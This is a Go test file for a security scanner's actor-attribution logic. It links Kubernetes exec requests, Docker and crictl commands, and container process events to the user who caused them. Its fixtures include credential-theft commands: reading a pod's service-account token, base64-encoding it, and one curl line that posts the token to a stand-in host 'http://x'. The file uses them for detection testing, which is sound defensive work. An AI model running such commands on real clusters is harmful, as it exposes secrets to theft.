package identity

import (
	"cmp"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"tideline/scanner/finding"
)

func actAt(seconds float64, kind, id, host, command string) *finding.Hit {
	h := &finding.Hit{Rule: "rule", Outcome: "allowed"}
	h.Source.Path = "log"
	h.Time.Time = time.Unix(1000, 0).UTC().Add(time.Duration(seconds * float64(time.Second)))
	h.Actor = finding.ActorRef{ID: id, Kind: kind, Name: id[strings.LastIndexAny(id, ":/")+1:]}
	h.Host, h.Command = host, command
	return h
}

// inSession is h of a login session.
func inSession(h *finding.Hit, session string) *finding.Hit {
	h.Actor.Session = session
	return h
}

func TestDockerEventBelongsToTheClientThatRanJustBefore(t *testing.T) {
	event := func(seconds float64) *finding.Hit {
		h := actAt(seconds, "docker-client", "docker:node1", "node1", "printenv")
		h.Container.Name, h.Container.ID = "payments", "0123456789abcdef"
		return h
	}
	for _, c := range []struct {
		name   string
		before []*finding.Hit
		at     float64
		want   string
	}{
		{"client named the container", []*finding.Hit{actAt(0, "linux-user", "linux:node1/auid=1004", "node1", "docker exec payments printenv")}, 0.2, "linux:node1/auid=1004"},
		{"too long ago", []*finding.Hit{actAt(0, "linux-user", "linux:node1/auid=1004", "node1", "docker exec payments printenv")}, 9, ""},
		{"another host", []*finding.Hit{actAt(0, "linux-user", "linux:node2/auid=1004", "node2", "docker exec payments printenv")}, 0.2, ""},
		{"another container", []*finding.Hit{actAt(0, "linux-user", "linux:node1/auid=1004", "node1", "docker exec web printenv")}, 0.2, ""},
		{"a container whose name begins like it", []*finding.Hit{actAt(0, "linux-user", "linux:node1/auid=1004", "node1", "docker exec payments-db printenv")}, 0.2, ""},
		{"or ends like it", []*finding.Hit{actAt(0, "linux-user", "linux:node1/auid=1004", "node1", "docker exec old-payments printenv")}, 0.2, ""},
		{"and then itself", []*finding.Hit{actAt(0, "linux-user", "linux:node1/auid=1004", "node1", "docker cp old-payments:/x payments:/x")}, 0.2, "linux:node1/auid=1004"},
		{"client named its id", []*finding.Hit{actAt(0, "linux-user", "linux:node1/auid=1004", "node1", "docker exec 0123456789abcd printenv")}, 0.2, "linux:node1/auid=1004"},
		{"client of the socket", []*finding.Hit{actAt(0, "linux-user", "linux:node1/auid=1004", "node1", "curl --unix-socket /run/docker.sock http://d/containers/payments/exec")}, 0.2, "linux:node1/auid=1004"},
		{"a login by its name", []*finding.Hit{inSession(actAt(0, "linux-user", "linux:node1/eve", "node1", "docker exec payments printenv"), "7")}, 0.2, "linux:node1/eve"},
		{"no login, by its name", []*finding.Hit{actAt(0, "linux-user", "linux:node1/root", "node1", "docker exec payments printenv")}, 0.2, ""},
		{"no login, whatever it says of a session", []*finding.Hit{inSession(actAt(0, "linux-user", "linux:node1/uid=0", "node1", "docker exec payments printenv"), "7")}, 0.2, ""},
		{"no login", []*finding.Hit{actAt(0, "linux-user", "linux:node1/uid=0", "node1", "docker exec payments printenv")}, 0.2, ""},
		{"nobody knows where it ran", []*finding.Hit{actAt(0, "linux-user", "auid=1004", "", "docker exec payments printenv")}, 0.2, ""},
		{"no client of a runtime", []*finding.Hit{actAt(0, "linux-user", "linux:node1/auid=1004", "node1", "ls payments")}, 0.2, ""},
		{"two persons", []*finding.Hit{
			actAt(0, "linux-user", "linux:node1/auid=1004", "node1", "docker exec payments printenv"),
			actAt(0.1, "linux-user", "linux:node1/auid=1005", "node1", "docker exec payments printenv")}, 0.2, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			var w namedActs
			for _, h := range c.before {
				w.remember(h)
			}
			actor, link := w.resolve(event(c.at))
			got := ""
			if actor != nil {
				got = actor.ID
			}
			if got != c.want || (link == nil) != (c.want == "") {
				t.Errorf("actor %q, link %+v; want %q", got, link, c.want)
			}
		})
	}
}

// TestAnEventOfNoContainerNeedsNoName: what the daemon did has then no command, and
// any client of its socket that ran on the host may have asked for it.
func TestAnEventOfNoContainerNeedsNoName(t *testing.T) {
	event := actAt(0.2, "docker-client", "docker:node1", "node1", "")
	socket := actAt(0, "linux-user", "linux:node1/auid=1004", "node1", "")
	socket.Target = finding.Target{Kind: "file", Name: "/run/docker.sock"}
	file := actAt(0, "linux-user", "linux:node1/auid=1005", "node1", "")
	file.Target = finding.Target{Kind: "file", Name: "/usr/bin/docker"}
	for _, c := range []struct {
		before *finding.Hit
		want   string
	}{
		{actAt(0, "linux-user", "linux:node1/auid=1004", "node1", "docker volume create x"), "linux:node1/auid=1004"},
		{socket, "linux:node1/auid=1004"},
		{file, ""},
	} {
		var w namedActs
		w.remember(c.before)
		got := ""
		if actor, _ := w.resolve(event); actor != nil {
			got = actor.ID
		}
		if got != c.want {
			t.Errorf("%q, %q: %q, want %q", c.before.Command, c.before.Target.Name, got, c.want)
		}
	}
}

// TestAProcessBelongsToTheClientThatWasToldIt: there need be no event of the
// runtime in between.
func TestAProcessBelongsToTheClientThatWasToldIt(t *testing.T) {
	process := actAt(0.4, "linux-user", "linux:node1/uid=1000", "node1", "cat /token")
	for command, want := range map[string]string{
		"crictl exec -it 8a3f cat /token":       "linux:node1/auid=1005",
		"crictl exec -it 8a3f cat /token.old":   "",
		"crictl exec -it 8a3f netcat /token":    "",
		"vi cat /token":                         "",
		"crictl exec -it 8a3f sh -c cat /token": "linux:node1/auid=1005",
	} {
		var w namedActs
		w.remember(actAt(0, "linux-user", "linux:node1/auid=1005", "node1", command))
		got := ""
		if actor, _ := w.resolve(process); actor != nil {
			got = actor.ID
		}
		if got != want {
			t.Errorf("%s: %q, want %q", command, got, want)
		}
	}
	var w namedActs
	w.remember(actAt(0, "linux-user", "linux:node2/auid=1005", "node2", "crictl exec -it 8a3f cat /token"))
	if actor, _ := w.resolve(process); actor != nil {
		t.Errorf("given to %s of another host", actor.ID)
	}
	nothing := actAt(0.4, "linux-user", "linux:node2/uid=1000", "node2", "")
	if actor, _ := w.resolve(nothing); actor != nil {
		t.Errorf("what has no command is given to %s", actor.ID)
	}
}

// TestWitnessesOfOneActNameOneCredential: what one log calls the token of a pod is
// not "a token" besides where another log tells of it; nor is a second credential
// taken for the first.
func TestWitnessesOfOneActNameOneCredential(t *testing.T) {
	exec := actAt(0, "kubernetes-user", "k8s:eve", "master", "cat /token")
	exec.Target = finding.Target{Kind: "pods/exec", Namespace: "prod", Name: "web-0"}
	exec.Exposed = []finding.Exposed{{Kind: "service-account-token", Namespace: "prod", Name: "pod web-0", Certainty: finding.Obtained}}
	inside := actAt(1, "container-process", "container:abc", "node1", "cat /token")
	inside.Exposed = []finding.Exposed{{Kind: "service-account-token", Name: "*", Certainty: finding.Possible}, {Kind: "environment", Name: "*", Certainty: finding.Possible}}
	var w namedActs
	w.remember(exec)
	saved, err := json.Marshal(w.seen)
	w = namedActs{}
	if err := cmp.Or(err, json.Unmarshal(saved, &w.seen)); err != nil {
		t.Fatal(err)
	}
	if actor, _ := w.resolve(inside); actor == nil {
		t.Fatal("the two are not joined")
	}
	want := []finding.Exposed{{Kind: "service-account-token", Namespace: "prod", Name: "pod web-0", Certainty: finding.Possible}, inside.Exposed[1]}
	if got := w.named(inside); !slices.Equal(got, want) || inside.Exposed[0].Name != "*" {
		t.Errorf("%+v, of %+v", got, inside.Exposed)
	}
	inside.Exposed = []finding.Exposed{{Kind: "service-account-token", Name: "pod db-0"}, {Kind: "service-account-token", Namespace: "ci", Name: "*"}}
	if got := w.named(inside); !slices.Equal(got, inside.Exposed) {
		t.Errorf("what has a name is called %+v", got)
	}
	other := actAt(1, "container-process", "container:abc", "node1", "cat /other")
	other.Exposed = inside.Exposed
	w.resolve(other)
	if got := w.named(other); !slices.Equal(got, other.Exposed) {
		t.Errorf("another act: %+v", got)
	}
}

func TestContainerProcessBelongsToTheExecOfTheSameCommand(t *testing.T) {
	exec := actAt(0, "kubernetes-user", "k8s:eve", "master", "cat /etc/secret")
	exec.Target = finding.Target{Kind: "pods/exec", Namespace: "prod", Name: "web-0"}
	inside := actAt(1, "container-process", "container:abc", "node1", "cat /etc/secret")
	inside.Container.Pod, inside.Container.Namespace = "web-0", "prod"
	var w namedActs
	w.remember(exec)
	if actor, link := w.resolve(inside); actor == nil || actor.ID != "k8s:eve" || link.Actor != "container:abc" {
		t.Errorf("actor %+v, link %+v", actor, link)
	}
	inside.Container.Pod = "web-1"
	if actor, _ := w.resolve(inside); actor != nil {
		t.Errorf("a process in another pod was given to %s", actor.ID)
	}
	inside.Container.Pod, inside.Container.Namespace = "web-0", "dev"
	if actor, _ := w.resolve(inside); actor != nil {
		t.Errorf("a process in a pod of that name elsewhere was given to %s", actor.ID)
	}
}

// TestWhatStartsNothingInAContainer: only who ran a command in a container, and was not
// refused, can have started the process there.
func TestWhatStartsNothingInAContainer(t *testing.T) {
	act := func(change func(*finding.Hit)) *finding.Hit {
		h := actAt(0, "kubernetes-user", "k8s:eve", "master", "cat /etc/secret")
		h.Target = finding.Target{Kind: "pods/exec", Namespace: "prod", Name: "web-0"}
		if change(h); h.Actor.Kind == "linux-user" {
			h.Target = finding.Target{}
		}
		return h
	}
	on := func(host string) func(*finding.Hit) {
		return func(h *finding.Hit) {
			h.Actor = finding.ActorRef{ID: "linux:" + host + "/auid=7", Kind: "linux-user", Name: "auid=7"}
			h.Host = host
		}
	}
	contained := func(host string) func(*finding.Hit) {
		return func(h *finding.Hit) { on(host)(h); h.Container.ID = "abc" }
	}
	for name, c := range map[string]struct {
		before *finding.Hit
		want   string
	}{
		"an exec":                       {act(func(*finding.Hit) {}), "k8s:eve"},
		"a refused one":                 {act(func(h *finding.Hit) { h.Outcome = "denied" }), ""},
		"another request":               {act(func(h *finding.Hit) { h.Target.Kind = "pods" }), ""},
		"one that nobody knows when":    {act(func(h *finding.Hit) { h.Time = finding.Time{} }), ""},
		"one of another command":        {act(func(h *finding.Hit) { h.Command = "id" }), ""},
		"one of a command not known":    {act(func(h *finding.Hit) { h.Command = "" }), ""},
		"a command outside":             {act(on("node1")), ""},
		"one in a container":            {act(contained("node1")), "linux:node1/auid=7"},
		"one in a container, elsewhere": {act(contained("node2")), ""},
	} {
		for _, kind := range []string{"container-process", "linux-user", "docker-client"} {
			inside := actAt(1, kind, "linux:node1/uid=0", "node1", "cat /etc/secret")
			var w namedActs
			w.remember(c.before)
			got, want := "", c.want
			if actor, _ := w.resolve(inside); actor != nil {
				got = actor.ID
			}
			if got != want {
				t.Errorf("%s, %s: given to %q, want %q", name, kind, got, want)
			}
		}
	}
}

func TestOneActToldByThreeLogsBelongsToOneActor(t *testing.T) {
	exec := actAt(0, "kubernetes-user", "k8s:eve", "", "cat /etc/secret")
	exec.Target = finding.Target{Kind: "pods/exec", Namespace: "prod", Name: "web-0"}
	docker := actAt(0.4, "docker-client", "docker:node1", "node1", "cat /etc/secret")
	docker.Container.ID, docker.Container.Pod, docker.Container.Namespace = "abc", "web-0", "prod"
	process := actAt(0.5, "linux-user", "linux:node1/uid=0", "node1", "cat /etc/secret")
	login := actAt(0.6, "linux-user", "linux:node1/auid=1004", "node1", "cat /etc/secret")
	var w namedActs
	for _, c := range []struct {
		h    *finding.Hit
		want string
	}{{exec, ""}, {docker, "k8s:eve"}, {process, "k8s:eve"}, {login, ""}} {
		got := ""
		if actor, _ := w.resolve(c.h); actor != nil {
			got, c.h.Actor = actor.ID, *actor
		}
		w.remember(c.h)
		if got != c.want {
			t.Errorf("at %v: given to %q, want %q", c.h.Time, got, c.want)
		}
	}
}

// TestFloodOfNamedActs: each nameless act is held against a bounded number of
// others, and is not given to one of those that are left when there were more.
func TestFloodOfNamedActs(t *testing.T) {
	var w namedActs
	event := func(seconds float64) *finding.Hit {
		h := actAt(seconds, "docker-client", "docker:node1", "node1", "printenv")
		h.Container.Name = "payments"
		return h
	}
	client := func(seconds float64, uid string) *finding.Hit {
		return actAt(seconds, "linux-user", "linux:node1/auid="+uid, "node1", "docker exec payments printenv")
	}
	w.remember(client(0, "1"))
	for range MaxNamedActs - 1 {
		w.remember(client(0, "2"))
	}
	if actor, _ := w.resolve(event(0)); actor != nil || w.unsure != 0 {
		t.Errorf("of two persons %v was taken, %d unsure", actor, w.unsure)
	}
	w.remember(client(1, "2"))
	if actor, _ := w.resolve(event(1)); actor != nil || w.unsure != 1 || len(w.seen) > MaxNamedActs {
		t.Errorf("one person is forgotten, and %v was taken; %d unsure, %d held", actor, w.unsure, len(w.seen))
	}
	if actor, _ := w.resolve(event(3.5)); actor == nil || actor.ID != "linux:node1/auid=2" || w.unsure != 1 {
		t.Errorf("the flood is over: %v, %d unsure", actor, w.unsure)
	}
}

// TestLinkNamesNoHostThatIsUnknown: what ran a command in a container may be known
// without the host it ran on.
func TestLinkNamesNoHostThatIsUnknown(t *testing.T) {
	for host, want := range map[string]string{
		"":      "alice ran the same command in a container 1.5 s before",
		"node1": "alice ran the same command in a container on node1 1.5 s before",
	} {
		h := actAt(1.5, "docker-client", "docker:x", host, "printenv")
		x := &namedAct{Time: time.Unix(1000, 0).UTC(), Actor: finding.ActorRef{Name: "alice"}, Host: host, Exec: true, Command: "printenv"}
		if got := x.started(h); got != want {
			t.Errorf("%q, want %q", got, want)
		}
	}
	h := actAt(1.5, "container-process", "container:x", "node1", "printenv")
	x := &namedAct{Time: time.Unix(1000, 0).UTC(), Actor: finding.ActorRef{Name: "alice"}, Pod: "web-0", NS: "prod", Exec: true, Command: "printenv"}
	if got, want := x.started(h), "alice ran the same command in pod prod/web-0 through the API server 1.5 s before"; got != want {
		t.Errorf("%q, want %q", got, want)
	}
}

func TestAKubeletServesWhatTheAPIServerPassesOn(t *testing.T) {
	exec := func(user, pod, command string) *finding.Hit {
		h := actAt(0, "kubernetes-user", "k8s:"+user, "", command)
		h.Target.Kind, h.Target.Namespace, h.Target.Name = "pods/exec", "prod", pod
		return h
	}
	for name, c := range map[string]struct {
		before []*finding.Hit
		at     float64
		want   string
	}{
		"the same exec":    {[]*finding.Hit{exec("eve", "web-0", "env")}, 0.1, "k8s:eve"},
		"another pod":      {[]*finding.Hit{exec("eve", "web-1", "env")}, 0.1, ""},
		"another command":  {[]*finding.Hit{exec("eve", "web-0", "printenv")}, 0.1, ""},
		"too long ago":     {[]*finding.Hit{exec("eve", "web-0", "env")}, 9, ""},
		"one of two":       {[]*finding.Hit{exec("eve", "web-0", "env"), exec("bob", "web-0", "env")}, 0.1, ""},
		"a login's docker": {[]*finding.Hit{actAt(0, "linux-user", "linux:node1/auid=1004", "node1", "docker exec web-0 env")}, 0.1, ""},
	} {
		var a namedActs
		for _, h := range c.before {
			a.remember(h)
		}
		served := actAt(c.at, "kubernetes-client", "k8s-client:10.0.0.1", "node1", "env")
		served.Action, served.Target.Namespace, served.Target.Name = "exec", "prod", "web-0"
		got := ""
		if actor, link := a.resolve(served); actor != nil {
			got = actor.ID
			if link == nil || link.Actor != "k8s-client:10.0.0.1" || link.Why != "eve ran the same command in pod prod/web-0 through the API server 0.1 s before" {
				t.Errorf("%s: link %+v", name, link)
			}
		}
		if got != c.want {
			t.Errorf("%s: it is of %q, want %q", name, got, c.want)
		}
	}
}

// TestAProgramOfAScriptBelongsToWhoRanIt: the shell is one process, and what it starts
// are others, which the log of the API server does not name.
func TestAProgramOfAScriptBelongsToWhoRanIt(t *testing.T) {
	const token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
	for _, c := range []struct {
		script, program string
		want            bool
	}{
		{"sh -c cat " + token, "cat " + token, true},
		{"/bin/bash -ec id; cat '" + token + "' | base64 -w0", "cat " + token, true},
		{"/bin/bash -ec id; cat " + token + " | base64 -w0", "base64 -w0", true},
		{"sh -c curl -d \"$(cat " + token + ")\" http://x", "cat " + token, true},
		{"sh -c cat " + token + ".old", "cat " + token, false},
		{"sh -c id; env", "env", false}, // anything says that
		{"echo -c cat " + token, "cat " + token, false},
		{"sh /srv/c cat " + token, "cat " + token, false},
	} {
		var w namedActs
		h := actAt(0, "kubernetes-user", "k8s:eve", "", c.script)
		h.Target = finding.Target{Kind: "pods/exec", Namespace: "prod", Name: "pay-1"}
		w.remember(h)
		actor, link := w.resolve(actAt(0.2, "linux-user", "linux:node1/uid=0", "node1", c.program))
		if (actor != nil) != c.want {
			t.Errorf("%s starts %s: actor %v", c.script, c.program, actor)
		}
		if link != nil && !strings.Contains(link.Why, "eve ran a script with this command in pod prod/pay-1 through the API server 0.2 s before") {
			t.Errorf("%s: %s", c.script, link.Why)
		}
	}
}

// TestAFileThatACommandNamesBelongsToWhoRanIt: the kernel tells of the opening apart.
func TestAFileThatACommandNamesBelongsToWhoRanIt(t *testing.T) {
	const token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
	for _, c := range []struct {
		command, program, file string
		want                   bool
	}{
		{"cat " + token, "/bin/cat", token, true},
		{"cat " + token, "/bin/busybox", token, true},
		{"sh -c curl -d \"$(cat " + token + ")\" http://x", "/usr/bin/cat", token, true},
		{"sh -c base64 <" + token, "/bin/sh", token, true},
		{"cat " + token, "/usr/bin/python3", token, false},
		{"cat " + token + ".old", "/bin/cat", token, false},
		{"cat token", "/bin/cat", "token", false},
	} {
		var w namedActs
		h := actAt(0, "kubernetes-user", "k8s:eve", "", c.command)
		h.Target = finding.Target{Kind: "pods/exec", Namespace: "prod", Name: "pay-1"}
		w.remember(h)
		open := actAt(0.2, "linux-user", "linux:node1/uid=0", "node1", "")
		open.Actor.Agent, open.Target = c.program, finding.Target{Kind: "file", Name: c.file}
		actor, link := w.resolve(open)
		if (actor != nil) != c.want || link != nil && !strings.Contains(link.Why, "eve ran a command on this file in pod prod/pay-1") {
			t.Errorf("%s, %s opens %s: actor %v, link %+v", c.command, c.program, c.file, actor, link)
		}
	}
}

// TestAProgramOfAScriptThatARuntimeWasTold: the client of the runtime hands the script on.
func TestAProgramOfAScriptThatARuntimeWasTold(t *testing.T) {
	for command, want := range map[string]bool{
		"crictl exec 9f8e sh -c cat /token | base64":    true,
		"crictl exec 9f8e /bin/bash -c id; cat /token":  true,
		"crictl exec 9f8e sh -c cat /tokens | base64":   false,
		"crictl exec 9f8e sh /srv/run -c cat /token; x": false,
		"ssh node sh -c cat /token | base64":            false, // no client of a runtime
	} {
		var w namedActs
		w.remember(actAt(0, "linux-user", "linux:node1/auid=1003", "node1", command))
		if actor, _ := w.resolve(actAt(0.2, "linux-user", "linux:node1/uid=0", "node1", "cat /token")); (actor != nil) != want {
			t.Errorf("%s: actor %v", command, actor)
		}
	}
}
